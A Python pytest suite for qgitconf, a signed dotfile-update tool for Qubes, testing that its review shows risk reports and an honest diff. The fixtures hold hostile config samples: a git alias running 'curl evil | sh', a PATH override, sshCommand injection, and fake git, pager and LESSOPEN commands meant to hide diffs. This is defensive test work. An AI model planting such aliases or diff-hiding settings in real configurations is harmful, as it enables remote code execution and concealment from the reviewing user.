"""qgitconf review in the lab: signer, risk report above the diff, --json, the built-in
diff without git, modes/symlinks/binaries, escaping (rule 11), auto-apply, notify-send.

The lab is the real one: commands run in the qubes through Qubes' qrexec, agent
functions called in-process run with the qube user's uid on its home (host path).
"""

from __future__ import annotations

import json
import os
import re
import select
import shlex
import shutil
import stat
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from qgitconf import sysprog
from qgitconf.agent.render import colorize, diff_colors, render_text
from qgitconf.agent.review import review
from qgitconf.lab.build import SYS_PATH
from tests.labkit import (
    QUBE_HOME,
    Lab,
    as_qube_user,
    commit_files,
    host_env,
    publish,
    qg,
    run,
    target_snapshot,
)

BASHRC = "PS1='$ '\n"


# what agent functions import lazily (dulwich, the stdlib C modules and codecs it needs,
# gnupg, the apply command)
_as_user = as_qube_user


def _worktree(lab: Lab) -> Path:
    """personal's worktree in config-mgmt, as config-mgmt sees it."""
    return Path(qg(lab, "config-mgmt", "edit", "personal").stdout.decode().strip())


def _wt_rel(wt: Path, rel: str) -> str:
    """``rel`` under the worktree, relative to config-mgmt's home (for lab.write)."""
    return str((wt / rel).relative_to(QUBE_HOME))


def _commit_worktree(lab: Lab, message: str) -> None:
    wt = _worktree(lab)
    run(lab, "config-mgmt", "git", "-C", str(wt), "add", "-A")
    qg(lab, "config-mgmt", "commit", "personal", "-m", message)


def test_review_shows_risk_report_above_the_diff(lab: Lab) -> None:
    commit_files(lab, "personal", {".bashrc": BASHRC}, "first")
    publish(lab, "personal")
    qg(lab, "personal", "apply", "--yes")
    gitconfig = '[alias]\n\tst = status\n\tx = "!curl evil | sh"\n[color]\n\tui = auto\n'
    commit_files(
        lab,
        "personal",
        {".bashrc": BASHRC + "export PATH=~/.evil:$PATH\n", ".config/git/config": gitconfig},
        "second",
    )
    publish(lab, "personal")
    out = qg(lab, "personal", "review").stdout.decode()
    assert f"signed by: {lab.fingerprint} (qgitconf lab vault" in out and "[pinned]" in out
    assert "sequence 2" in out and "date:" in out
    report = out.index("risk report: 3 high, 0 medium, 0 low")
    assert out.index("HIGH   shell-path-override line 2") > report
    assert "HIGH   git-alias-shell line 3: alias.x = !curl evil | sh" in out
    assert out.index("diff --git a/.bashrc b/.bashrc") > out.index("git-alias-shell")
    assert "+export PATH=~/.evil:$PATH" in out
    data = json.loads(qg(lab, "personal", "review", "--json").stdout)
    assert data["risk_summary"] == {"high": 3, "medium": 0, "low": 0}
    assert [(r["rule"], r["path"], r["line"]) for r in data["risks"]] == [
        ("shell-startup", ".bashrc", 2),
        ("shell-path-override", ".bashrc", 2),
        ("git-alias-shell", ".config/git/config", 3),
    ]
    assert data["signer"] == {
        "fingerprint": lab.fingerprint,
        "uids": ["qgitconf lab vault <vault@lab.invalid>"],
        "pinned": True,
    }
    assert data["diff_tool"] == "git" and data["message"] == "second"
    assert {f["path"]: f["status"] for f in data["files"]} == {
        ".bashrc": "modified",
        ".config/git/config": "added",
    }


def test_modes_symlinks_and_binaries_are_shown_clearly(lab: Lab) -> None:
    # Not under a dot directory: there any unknown file is also `unclassified-config`.
    wt = _worktree(lab)
    lab.write("config-mgmt", _wt_rel(wt, "misc/tool"), b"#!/bin/sh\necho hi\n")
    lab.write("config-mgmt", _wt_rel(wt, "misc/blob.bin"), b"\x00\x01\x02binary")
    lab.write("config-mgmt", _wt_rel(wt, "misc/notes"), b"notes\n")
    _commit_worktree(lab, "first")
    publish(lab, "personal")
    qg(lab, "personal", "apply", "--yes")
    run(lab, "config-mgmt", "chmod", "755", str(wt / "misc/tool"))
    lab.write("config-mgmt", _wt_rel(wt, "misc/blob.bin"), b"\x00\x01\x02other")
    run(lab, "config-mgmt", "ln", "-s", "notes", str(wt / "misc/link"))
    _commit_worktree(lab, "second")
    publish(lab, "personal")
    data = json.loads(qg(lab, "personal", "review", "--json").stdout)
    files = {f["path"]: f for f in data["files"]}
    assert files["misc/tool"]["status"] == "mode-changed"
    assert files["misc/tool"]["notes"] == ["mode 100644 -> 100755"]
    assert files["misc/link"]["symlink"] == "notes"
    assert files["misc/link"]["notes"] == ["new file, mode 120000", "symlink -> notes"]
    assert files["misc/blob.bin"]["binary"] is True
    rules = {(r["rule"], r["path"]) for r in data["risks"]}
    assert rules == {
        ("executable-file", "misc/tool"),
        ("symlink", "misc/link"),
        ("binary-file", "misc/blob.bin"),
    }
    out = qg(lab, "personal", "review").stdout.decode()
    assert "old mode 100644\nnew mode 100755" in out
    # --text: a binary file's change is shown (escaped), never "Binary files differ".
    assert "Binary files" not in out
    assert "-\\x00\\x01\\x02binary" in out and "+\\x00\\x01\\x02other" in out
    assert "new file mode 120000" in out and "+notes" in out
    assert "(mode 100644 -> 100755)" in out and "(new file, mode 120000; symlink -> notes)" in out


def test_builtin_diff_without_git(lab: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    commit_files(lab, "personal", {".bashrc": BASHRC, ".config/a": "a\n"}, "first")
    publish(lab, "personal")
    qg(lab, "personal", "apply", "--yes")
    commit_files(lab, "personal", {".bashrc": "PS1='# '\n"}, "second")
    publish(lab, "personal")
    home, env = lab.home("personal"), host_env(lab, "personal")
    real_find = sysprog.find
    monkeypatch.setattr(sysprog, "find", lambda n: None if n == "git" else real_find(n))
    with _as_user(lab, "personal"):
        data = review(home, env)
    assert data["diff_tool"] == "builtin"
    assert data["diff"] == (
        "diff --git a/.bashrc b/.bashrc\n"
        "--- a/.bashrc\n"
        "+++ b/.bashrc\n"
        "@@ -1 +1 @@\n"
        "-PS1='$ '\n"
        "+PS1='# '\n"
    )
    monkeypatch.undo()
    with _as_user(lab, "personal"):
        with_git = review(home, host_env(lab, "personal"))
    assert with_git["diff_tool"] == "git" and "-PS1='$ '\n+PS1='# '" in with_git["diff"]


def test_filename_and_message_with_escapes_are_shown_escaped(lab: Lab) -> None:
    """Rule 11 in review, status and log: ANSI escapes and bidi overrides never reach
    the terminal.  A name with control or bidi characters is refused by rule 7 before
    staging (test_e2e_lab); a zero-width joiner inside an ordinary name is allowed, so
    that is the name that reaches review - escaped, and reported as a risk."""
    name = ".config/ba\u200dshrc"
    message = "msg \x1b[31mred\x1b[0m \u202eevil"
    commit_files(lab, "personal", {name: "x \x1b[2J\u202e\n", ".bashrc": BASHRC}, message)
    publish(lab, "personal")
    out = qg(lab, "personal", "review").stdout.decode()
    for raw in ("\x1b", "\u202e", "\u200d"):
        assert raw not in out
    assert "msg \\x1b[31mred\\x1b[0m \\u202eevil" in out
    assert ".config/ba\\u200dshrc" in out  # risk report and the git diff path line
    assert "+x \\x1b[2J\\u202e" in out
    assert "hidden-characters line 1" in out and "hidden-characters: in the file name" in out
    data = json.dumps(
        json.loads(qg(lab, "personal", "review", "--json").stdout), ensure_ascii=False
    )
    assert "\x1b" not in data and "\u202e" not in data and "\u200d" not in data
    qg(lab, "personal", "apply", "--yes")
    lab.write("personal", name, b"local edit\n")
    status = qg(lab, "personal", "status").stdout.decode()
    assert "\u200d" not in status and ".config/ba\\u200dshrc" in status
    status_json = json.loads(qg(lab, "personal", "status", "--json").stdout)
    assert status_json["drift"] == [".config/ba\\u200dshrc"]
    log = (
        qg(lab, "personal", "log").stdout.decode()
        + qg(lab, "personal", "log", "--json").stdout.decode()
    )
    assert "\x1b" not in log and "\u202e" not in log and "\u200d" not in log


def test_colorize_adds_only_its_own_sequences() -> None:
    text = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old \\x1b[2J\n+new\n"
    colors = {"meta": "\x1b[1m", "frag": "\x1b[36m", "old": "\x1b[31m", "new": "\x1b[32m"}
    out = colorize(text, {**colors, "reset": "\x1b[m"})
    assert "\x1b[31m-old \\x1b[2J\x1b[m" in out and "\x1b[32m+new\x1b[m" in out
    assert out.replace("\x1b[m", "").count("\x1b") == 6  # one per line, nothing else


def test_review_gui_without_display_falls_back_to_terminal(lab: Lab) -> None:
    commit_files(lab, "personal", {".bashrc": BASHRC}, "first")
    publish(lab, "personal")
    proc = qg(lab, "personal", "review", "--gui")
    assert b"no display" in proc.stderr and b"risk report:" in proc.stdout
    assert not (lab.home("personal") / ".bashrc").exists()


def _enable_auto_apply(lab: Lab) -> None:
    rel = ".config/qgitconf/target.toml"
    toml = lab.home("personal") / rel
    text = toml.read_text()
    assert "auto_apply = false" in text
    mode = stat.S_IMODE(toml.stat().st_mode)
    lab.write(
        "personal", rel, text.replace("auto_apply = false", "auto_apply = true").encode(), mode
    )


def test_auto_apply_applies_a_harmless_update(lab: Lab) -> None:
    _enable_auto_apply(lab)
    # Not under a dot directory: there any unknown file is `unclassified-config` (high).
    commit_files(lab, "personal", {"notes/foo/settings": "colour = blue\n"}, "harmless")
    result = publish(lab, "personal")
    assert result["status"] == "staged"  # the reply is unchanged
    assert (lab.home("personal") / "notes/foo/settings").read_text() == "colour = blue\n"
    data = json.loads(qg(lab, "personal", "review", "--json").stdout)
    assert data["auto_apply"]["result"] == "applied" and data["auto_apply"]["generation"] == 1
    status = json.loads(qg(lab, "personal", "status", "--json").stdout)
    assert status["applied"] == status["staged"] and not status["pending"]


def test_auto_apply_never_applies_a_high_risk_update(lab: Lab) -> None:
    _enable_auto_apply(lab)
    commit_files(lab, "personal", {".bashrc": BASHRC}, "shell")
    before = {k: v for k, v in target_snapshot(lab, "personal").items() if ".local/share" not in k}
    assert publish(lab, "personal")["status"] == "staged"
    after = {k: v for k, v in target_snapshot(lab, "personal").items() if ".local/share" not in k}
    assert after == before and not (lab.home("personal") / ".bashrc").exists()
    data = json.loads(qg(lab, "personal", "review", "--json").stdout)
    assert data["auto_apply"]["result"] == "staged"
    assert "high-risk findings (shell-startup)" in data["auto_apply"]["reason"]
    out = qg(lab, "personal", "review").stdout.decode()
    assert "auto-apply: staged: high-risk findings (shell-startup)" in out


def test_auto_apply_stops_at_drift(lab: Lab) -> None:
    _enable_auto_apply(lab)
    commit_files(lab, "personal", {".gitconfig": "[color]\n\tui = auto\n"}, "colour")
    original = (lab.home("personal") / ".gitconfig").read_bytes()  # the lab's own file
    publish(lab, "personal")
    assert (lab.home("personal") / ".gitconfig").read_bytes() == original
    data = json.loads(qg(lab, "personal", "review", "--json").stdout)
    assert data["auto_apply"]["result"] == "staged"
    assert "changed locally" in data["auto_apply"]["reason"]


# -- DESIGN rule 12: nothing an earlier update wrote can hide or fake the next diff --------
#
# A lab with update A applied and update B staged; B changes two lines of .bashrc (far
# enough apart for two hunks, one next to an empty line) and one other file.  Each case
# writes into $HOME (or the environment its shell startup files would set) what an
# earlier, genuinely signed update could have written, and the review must still show
# exactly the diff it shows without it, with the real .bashrc lines in it.

BASHRC_A = "".join(f"line {n}\n" if n != 5 else "\n" for n in range(1, 21)).replace(
    "line 3\n", "PS1='$ '\n"
)
BASHRC_B = BASHRC_A.replace("PS1='$ '\n", "PS1='# '\n").replace(
    "line 15\n", "export PATH=~/.evil:$PATH\n"
)
REAL_LINES = ("--- a/.bashrc", "+++ b/.bashrc", "-PS1='$ '", "+PS1='# '", "-line 15")
FAKE = "NOTHING-CHANGED"

_FAKE_GIT = f"#!/bin/sh\necho 'diff --git a/.bashrc b/.bashrc'\necho ' {FAKE}'\n"
_TEXTCONV = f"[diff \"fake\"]\n\ttextconv = sh -c 'echo {FAKE}'\n"

# (id, files written into $HOME (".gitconfig" is appended to), extra environment,
#  fails on the code before rule 12?)
HIDING = [
    ("core.bigFileThreshold", {".gitconfig": "[core]\n\tbigFileThreshold = 1\n"}, {}),
    ("attributes binary", {".config/git/attributes": "* binary\n"}, {}),
    ("attributes -diff", {".config/git/attributes": "* -diff\n"}, {}),
    (
        "attributes diff=x, binary driver with textconv",
        {
            ".config/git/attributes": "* diff=fake\n",
            ".gitconfig": _TEXTCONV + "\tbinary = true\n",
        },
        {},
    ),
    (
        "attributes diff=x with textconv",
        {".config/git/attributes": "* diff=fake\n", ".gitconfig": _TEXTCONV},
        {},
    ),
    (
        "attributes file named in gitconfig",
        {".gitconfig": "[core]\n\tattributesFile = ~/.attrs\n", ".attrs": "* -diff\n"},
        {},
    ),
    ("diff.external", {".gitconfig": f"[diff]\n\texternal = echo {FAKE}\n"}, {}),
    ("GIT_EXTERNAL_DIFF", {}, {"GIT_EXTERNAL_DIFF": f"echo {FAKE}"}),
    ("GIT_DIFF_OPTS", {}, {"GIT_DIFF_OPTS": "--unified=0"}),
    ("GIT_CONFIG_PARAMETERS", {}, {"GIT_CONFIG_PARAMETERS": "'core.bigfilethreshold'='1'"}),
    (
        "GIT_CONFIG_COUNT",
        {},
        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "diff.noprefix", "GIT_CONFIG_VALUE_0": "1"},
    ),
    ("XDG_CONFIG_HOME", {"xdg/git/attributes": "* binary\n"}, {"XDG_CONFIG_HOME": "{home}/xdg"}),
    (
        "include.path",
        {
            ".gitconfig": "[include]\n\tpath = .config/more\n",
            ".config/more": "[core]\n\tbigFileThreshold = 1\n",
        },
        {},
    ),
    ("~/bin/git on PATH", {"bin/git": _FAKE_GIT}, {"PATH": "{home}/bin:{PATH}"}),
    ("diff.noprefix", {".gitconfig": "[diff]\n\tnoprefix = true\n"}, {}),
    ("diff.mnemonicPrefix", {".gitconfig": "[diff]\n\tmnemonicPrefix = true\n"}, {}),
    ("diff.context", {".gitconfig": "[diff]\n\tcontext = 0\n"}, {}),
    ("diff.interHunkContext", {".gitconfig": "[diff]\n\tinterHunkContext = 20\n"}, {}),
    (
        "diff.orderFile",
        {".gitconfig": "[diff]\n\torderFile = ~/.order\n", ".order": ".config/*\n"},
        {},
    ),
    ("diff.suppressBlankEmpty", {".gitconfig": "[diff]\n\tsuppressBlankEmpty = true\n"}, {}),
    ("diff.algorithm", {".gitconfig": "[diff]\n\talgorithm = histogram\n"}, {}),
    ("diff.relative", {".gitconfig": "[diff]\n\trelative = true\n"}, {}),
    ("diff.renames copies", {".gitconfig": "[diff]\n\trenames = copies\n"}, {}),
    ("core.quotePath", {".gitconfig": "[core]\n\tquotePath = false\n"}, {}),
    ("diff.srcPrefix", {".gitconfig": "[diff]\n\tsrcPrefix = x/\n\tdstPrefix = y/\n"}, {}),
]


def _restore_home(home: Path, saved: Path) -> None:
    """Replace ``home``'s contents by ``saved``'s (owners, modes, links), as reset() does:
    the home directory itself keeps its inode (it is bind-mounted into its qube)."""
    for child in list(home.iterdir()):
        if child.is_dir() and not child.is_symlink():
            shutil.rmtree(child)
        else:
            child.unlink()
    subprocess.run(["cp", "-a", "--", f"{saved}/.", str(home)], check=True)


@pytest.fixture(scope="module")
def _pair_state(real_lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A applied, B staged (see above), built once in personal; a copy of that home and
    the diff review shows for it (in-process, as personal's user)."""
    lab = real_lab
    lab.reset()
    commit_files(lab, "personal", {".bashrc": BASHRC_A, ".config/app/conf": "x = 1\n"}, "A")
    publish(lab, "personal")
    qg(lab, "personal", "apply", "--yes")
    commit_files(lab, "personal", {".bashrc": BASHRC_B, ".config/app/conf": "x = 2\n"}, "B")
    publish(lab, "personal")
    saved = tmp_path_factory.mktemp("staged-pair") / "home"
    saved.mkdir()
    subprocess.run(["cp", "-a", "--", f"{lab.home('personal')}/.", str(saved)], check=True)
    with _as_user(lab, "personal"):
        diff = str(review(lab.home("personal"), host_env(lab, "personal"))["diff"])
    return saved, diff


@pytest.fixture
def staged_pair(lab: Lab, _pair_state: tuple[Path, str]) -> Lab:
    """The lab (reset) with personal's home as A applied, B staged left it; each case
    starts from that home again, so what it plants is gone for the next."""
    _restore_home(lab.home("personal"), _pair_state[0])
    return lab


def _plant(lab: Lab, files: dict[str, str]) -> None:
    """Write ``files`` into personal's home as its user (".gitconfig" is appended to;
    "bin/..." is executable)."""
    home = lab.home("personal")
    for rel, content in files.items():
        p = home / rel
        data = content.encode()
        if rel == ".gitconfig" and p.exists():
            data = p.read_bytes() + data
        lab.write("personal", rel, data, 0o755 if rel.startswith("bin/") else 0o644)


def _env_for(lab: Lab, extra: dict[str, str]) -> dict[str, str]:
    """The environment for in-process calls on personal's home (host paths)."""
    env = host_env(lab, "personal")
    home = str(lab.home("personal"))
    env.update({k: v.format(home=home, PATH=env["PATH"]) for k, v in extra.items()})
    return env


@pytest.fixture(scope="module")
def baseline(_pair_state: tuple[Path, str]) -> str:
    diff = _pair_state[1]
    for line in REAL_LINES:
        assert f"\n{line}\n" in diff
    assert "\n+export PATH=~/.evil:$PATH\n" in diff and "\n \n" in diff  # empty context line
    assert diff.count("\n@@ ") == 3 and diff.index(".bashrc") < diff.index(".config/app/conf")
    return diff


@pytest.mark.parametrize(("name", "files", "extra"), HIDING, ids=[c[0] for c in HIDING])
def test_an_earlier_update_cannot_change_the_review_diff(
    staged_pair: Lab, baseline: str, name: str, files: dict[str, str], extra: dict[str, str]
) -> None:
    home = staged_pair.home("personal")
    _plant(staged_pair, files)
    with _as_user(staged_pair, "personal"):
        data = review(home, _env_for(staged_pair, extra))
    assert data["diff_tool"] == "git"
    assert FAKE not in data["diff"]
    assert data["diff"] == baseline, name


def test_the_hiding_settings_arrive_by_a_real_update(lab: Lab) -> None:
    """The issue's scenario end to end: update 1 (signed, applied) sets
    core.bigFileThreshold and a `* binary` attributes file; update 2 changes .bashrc."""
    commit_files(lab, "personal", {".bashrc": BASHRC_A}, "shell")
    publish(lab, "personal")
    qg(lab, "personal", "apply", "--yes")
    commit_files(
        lab,
        "personal",
        {
            ".config/git/config": "[core]\n\tbigFileThreshold = 1\n[diff]\n\tnoprefix = true\n",
            ".config/git/attributes": "* binary\n",
        },
        "git settings",
    )
    publish(lab, "personal")
    qg(lab, "personal", "apply", "--yes")
    commit_files(lab, "personal", {".bashrc": BASHRC_B}, "prompt")
    publish(lab, "personal")
    out = qg(lab, "personal", "review").stdout.decode()
    assert "Binary files" not in out
    for line in REAL_LINES:
        assert f"\n{line}\n" in out
    git = qg(
        lab, "personal", "git", "diff", "refs/qgitconf/applied", "refs/qgitconf/staged"
    ).stdout.decode()
    assert "Binary files" not in git and "\n+PS1='# '\n" in git and "--- a/.bashrc" in git


@pytest.mark.parametrize(
    "content",
    [
        b"\0\n[core]\n\tsshCommand = evil\n",
        b"[core]\n\tsshCommand = evil\n" + b"\0" * 8,
        b"# " + b"x" * 20000 + b"\0\n[core]\n\tsshCommand = evil\n",
    ],
    ids=["NUL first", "NUL last", "NUL after 8000 bytes"],
)
def test_a_nul_byte_does_not_hide_the_update_itself(lab: Lab, content: bytes) -> None:
    """git, ssh and vim read files with a NUL; "Binary files differ" would hide the rest."""
    commit_files(lab, "personal", {".gitconfig-extra": content}, "nul")
    publish(lab, "personal")
    out = qg(lab, "personal", "review").stdout.decode()
    assert "Binary files" not in out and "\n+\tsshCommand = evil\n" in out


@pytest.mark.parametrize(
    "setting",
    ["black black", "normal normal", "reverse", "dim", "#000000 #000000", "blue blue bold"],
)
def test_gitconfig_colours_cannot_make_lines_invisible(staged_pair: Lab, setting: str) -> None:
    """~/.gitconfig is update-written: its color.diff.* is not used (fg == bg hides)."""
    home = staged_pair.home("personal")
    cfg = f'[color "diff"]\n\tnew = {setting}\n\told = {setting}\n\tmeta = {setting}\n'
    _plant(staged_pair, {".gitconfig": cfg})
    env = host_env(staged_pair, "personal")
    with _as_user(staged_pair, "personal"):
        colors = diff_colors(env)
        text = render_text(review(home, env), colors)
    assert (colors["new"], colors["old"]) == ("\x1b[32m", "\x1b[31m")
    assert "\x1b[32m+PS1='# '\x1b[m" in text and "\x1b[31m-PS1='$ '\x1b[m" in text
    assert diff_colors({**env, "NO_COLOR": "1"}) == {}


# -- the pager: through a real terminal --------------------------------------------------------

_CSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\x1b[=>]")


def _qube_path_var(lab: Lab, qube: str) -> str:
    """$PATH of a command qrexec starts in ``qube``."""
    return run(lab, qube, "sh", "-c", 'printf %s "$PATH"').stdout.decode()


def _on_tty(lab: Lab, args: list[str], extra: dict[str, str]) -> str:
    """Run ``qgitconf ARGS`` in the personal qube on a 200x200 pty; its screen output.

    qrexec carries no terminal (``qrexec-client -d QUBE user:CMD`` gives the command
    pipes), so the pty is made inside the qube: ``script`` runs the command on a new
    pty there (sized 200x200 with stty) and relays it over qrexec's pipes.  ``extra``'s
    ``{home}`` is the qube's /home/user, ``{PATH}`` the PATH qrexec gives it.
    """
    path = _qube_path_var(lab, "personal")
    env = {k: v.format(home=str(QUBE_HOME), PATH=path) for k, v in extra.items()}
    inner = "stty rows 200 cols 200 && exec " + shlex.join(["qgitconf", *args])
    line = "cd && exec " + shlex.join(
        ["env", *(f"{k}={v}" for k, v in env.items()), "script", "-qefc", inner, "/dev/null"]
    )
    proc = subprocess.Popen(
        lab.qrexec_argv("personal", line),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        env={"PATH": SYS_PATH, "LANG": "C.UTF-8"},
    )
    assert proc.stdin is not None and proc.stdout is not None
    out = proc.stdout.fileno()
    seen = b""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        ready, _, _ = select.select([out], [], [], 0.5)
        if ready:
            chunk = os.read(out, 65536)
            if not chunk:
                break
            seen += chunk
        elif proc.poll() is not None:
            break
        if b"(END)" in seen or seen.endswith(b":"):
            proc.stdin.write(b"q")  # a pager that did not quit on its own
            proc.stdin.flush()
    try:
        proc.wait(10)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        proc.stdin.close()
        proc.stdout.close()
    return _CSI.sub("", seen.decode("utf-8", "replace").replace("\r\n", "\n"))


_FAKE_PAGER = f"#!/bin/sh\ncat >/dev/null\necho {FAKE}\n"
PAGERS = [
    (
        "core.pager in ~/.gitconfig",
        {".gitconfig": f"[core]\n\tpager = sh -c 'cat >/dev/null; echo {FAKE}'\n"},
        {"PAGER": "cat"},
    ),
    (
        "~/bin/less and ~/bin/pager on PATH",  # Debian's git pages with `pager`
        {"bin/less": _FAKE_PAGER, "bin/pager": _FAKE_PAGER},
        {"PATH": "{home}/bin:{PATH}"},
    ),
    ("PAGER outside the system", {"bin/p": _FAKE_PAGER}, {"PAGER": "{home}/bin/p"}),
    ("PAGER with a file argument", {"decoy": f"{FAKE}\n"}, {"PAGER": "less decoy"}),
    ("PAGER as shell code", {}, {"PAGER": f"echo {FAKE}; cat >/dev/null"}),
    ("~/.lesskey LESSOPEN", {".lesskey": f"#env\nLESSOPEN=|-echo {FAKE} %s\n"}, {}),
    ("LESSOPEN in the environment", {}, {"LESSOPEN": f"|-echo {FAKE} %s"}),
]


@pytest.mark.parametrize(("name", "files", "extra"), PAGERS, ids=[c[0] for c in PAGERS])
def test_the_pager_cannot_hide_the_review(
    staged_pair: Lab, name: str, files: dict[str, str], extra: dict[str, str]
) -> None:
    _plant(staged_pair, files)
    screen = _on_tty(staged_pair, ["review"], {"TERM": "xterm", **extra})
    # The note that says a PAGER was not used quotes it; nothing else may show FAKE.
    screen = "\n".join(x for x in screen.split("\n") if not x.startswith("qgitconf: pager"))
    assert FAKE not in screen, name
    for line in REAL_LINES:
        assert f"\n{line}\n" in screen, (name, screen)


@pytest.mark.parametrize(
    ("name", "files"),
    [
        ("pager.diff", {".gitconfig": f"[pager]\n\tdiff = sh -c 'cat >/dev/null; echo {FAKE}'\n"}),
        ("core.pager", {".gitconfig": f"[core]\n\tpager = sh -c 'cat >/dev/null; echo {FAKE}'\n"}),
        ("~/bin/git", {"bin/git": _FAKE_GIT}),
        ("attributes binary", {".config/git/attributes": "* binary\n"}),
        ("core.bigFileThreshold", {".gitconfig": "[core]\n\tbigFileThreshold = 1\n"}),
    ],
)
def test_qgitconf_git_diff_cannot_be_steered(
    staged_pair: Lab, name: str, files: dict[str, str]
) -> None:
    _plant(staged_pair, files)
    screen = _on_tty(
        staged_pair,
        ["git", "diff", "refs/qgitconf/applied", "refs/qgitconf/staged"],
        {"TERM": "xterm", "PAGER": "cat", "PATH": "{home}/bin:{PATH}"},
    )
    assert FAKE not in screen and "Binary files" not in screen, name
    for line in REAL_LINES:
        assert f"\n{line}\n" in screen, (name, screen)


def test_pager_choice_is_the_environment_and_a_system_program() -> None:
    from qgitconf.agent.render import choose_pager, pager_env

    less = sysprog.find("less")
    assert choose_pager({}).argv == [less]
    assert choose_pager({"PAGER": "less -R"}).argv == [less, "-R"]
    assert choose_pager({"GIT_PAGER": "cat", "PAGER": "less"}).argv is None
    assert choose_pager({"PAGER": ""}).argv is None
    for bad in ("~/bin/less", "./less", "/home/user/bin/less", "less file", "less; x", "'x"):
        choice = choose_pager({"PAGER": bad})
        assert choice.argv == [less] and choice.note and "not used" in choice.note
    env = pager_env({"TERM": "xterm", "LESSOPEN": "|x", "HOME": "/home/u", "X": "1"}, "/e")
    assert env["HOME"] == "/e" and env["LESSSECURE"] == "1" and env["LESS"] == "FRX"
    assert "LESSOPEN" not in env and "X" not in env and env["PATH"] == sysprog.SYSTEM_PATH


# -- DESIGN §4: review is bound to what is applied ---------------------------------------------


def _review_commit(lab: Lab) -> str:
    out = qg(lab, "personal", "review").stdout.decode()
    m = re.search(r"apply what is shown here: qgitconf apply --commit ([0-9a-f]{40})\n", out)
    assert m is not None, out
    return m.group(1)


def test_apply_commit_refuses_an_update_staged_after_review(lab: Lab) -> None:
    commit_files(lab, "personal", {".config/a": "seen\n"}, "A")
    publish(lab, "personal")
    shown = _review_commit(lab)
    assert json.loads(qg(lab, "personal", "review", "--json").stdout)["apply_command"] == (
        f"qgitconf apply --commit {shown}"
    )
    b = commit_files(lab, "personal", {".config/a": "unseen\n"}, "B")  # held back, then sent
    publish(lab, "personal")
    before = target_snapshot(lab, "personal")
    proc = qg(lab, "personal", "apply", "--yes", "--commit", shown, expect=1)
    assert b"error [staged-changed]" in proc.stderr and b.encode() in proc.stderr
    assert target_snapshot(lab, "personal") == before
    proc = qg(lab, "personal", "apply", "--yes", "--commit", shown.upper()[:12], expect=2)
    assert b"full commit id" in proc.stderr
    assert target_snapshot(lab, "personal") == before
    out = qg(lab, "personal", "apply", "--yes", "--commit", b, "--json").stdout
    rec: dict[str, Any] = json.loads(out)
    assert rec["commit"] == b and rec["number"] == 1
    assert (lab.home("personal") / ".config/a").read_text() == "unseen\n"
    again = qg(lab, "personal", "apply", "--yes").stdout.decode()
    assert again == f"already applied: {b}\n"


def test_auto_apply_applies_exactly_the_commit_it_assessed(lab: Lab) -> None:
    from qgitconf.agent.autoapply import auto_apply
    from qgitconf.agent.config import load_target_config

    # Not under a dot directory: there `unclassified-config` (high) would stop it first.
    a = commit_files(lab, "personal", {"notes/a": "assessed\n"}, "A")
    publish(lab, "personal")
    commit_files(lab, "personal", {"notes/a": "later\n"}, "B")
    publish(lab, "personal")
    home, env = lab.home("personal"), host_env(lab, "personal")
    before = {k: v for k, v in target_snapshot(lab, "personal").items() if ".local/share" not in k}
    with _as_user(lab, "personal"):
        rec = auto_apply(home, env, load_target_config(home, env), a)
    after = {k: v for k, v in target_snapshot(lab, "personal").items() if ".local/share" not in k}
    assert rec["result"] == "staged" and "[staged-changed]" in rec["reason"]
    assert after == before
